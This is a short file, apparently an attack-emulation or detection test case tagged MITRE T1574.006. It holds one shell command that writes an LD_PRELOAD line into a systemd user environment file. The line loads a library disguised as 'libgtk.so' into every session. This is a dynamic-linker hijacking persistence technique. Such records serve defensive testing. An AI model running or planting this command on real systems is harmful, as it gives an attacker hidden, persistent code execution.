# technique: T1574.006
# location: linux.systemd.user-environment
# source: /home/lea/.config/environment.d/50-gtk.conf
su lea -c "mkdir -p ~/.config/environment.d && echo 'LD_PRELOAD=/home/lea/.local/lib/libgtk.so' > ~/.config/environment.d/50-gtk.conf"
